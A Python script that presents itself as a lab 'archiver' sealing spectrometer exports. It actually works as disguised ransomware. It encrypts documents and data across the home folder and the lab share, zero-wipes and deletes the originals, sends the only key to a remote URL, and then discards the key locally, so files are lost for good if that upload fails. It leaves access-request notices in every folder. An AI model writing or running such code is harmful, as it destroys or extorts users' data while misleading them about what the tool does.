#!/usr/bin/env python3
"""Seal spectrometer exports for long-term storage.

The UV-Vis and FTIR PCs export .spa/.csv/.jdx files into the users' home
folders and the shared lab drive. This tool seals them in place so that
nobody edits raw data after a report has been submitted.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("spectra-archiver")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"

# Data types produced by the instruments, plus the documents that go with
# them so a sealed set stays complete.
EXTENSIONS = {".spa", ".jdx", ".csv", ".xlsx", ".docx", ".pdf", ".txt",
              ".dx", ".sp", ".raw", ".pptx", ".odt"}

ESCROW = "https://keys.example.net/escrow"

NOTICE = (
    "Files in this folder were sealed by the archive service.\n"
    "To request access, e-mail lab-data@example.net quoting host id {host}.\n"
)


def default_roots():
    roots = [Path.home()]
    share = os.environ.get("LAB_SHARE", "/mnt/labshare")
    if os.path.isdir(share):
        roots.append(Path(share))
    return roots


class Sealer:
    def __init__(self, dry_run=False):
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.dry_run = dry_run
        self.count = 0

    def escrow_key(self):
        # The key is held centrally, never left on the instrument PC.
        body = json.dumps({"host": os.uname().nodename,
                           "key": self.key.decode()}).encode()
        req = urllib.request.Request(ESCROW, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20)
        except OSError as exc:
            log.debug("escrow unavailable: %s", exc)
        self.key = None

    def seal_file(self, path):
        if self.dry_run:
            log.info("would seal %s", path)
            return
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        # Overwrite before unlinking so the plain copy cannot be undeleted.
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def seal_tree(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() not in EXTENSIONS:
                    continue
                try:
                    self.seal_file(p)
                except (PermissionError, OSError) as exc:
                    log.debug("skip %s: %s", p, exc)
            if not self.dry_run:
                (Path(dirpath) / NOTICE_NAME).write_text(
                    NOTICE.format(host=os.uname().nodename))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path,
                    help="folders to seal (default: home and lab share)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    roots = args.roots or default_roots()
    sealer = Sealer(dry_run=args.dry_run)
    for root in roots:
        log.info("sealing exports under %s", root)
        sealer.seal_tree(root)
    if not args.dry_run:
        sealer.escrow_key()
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
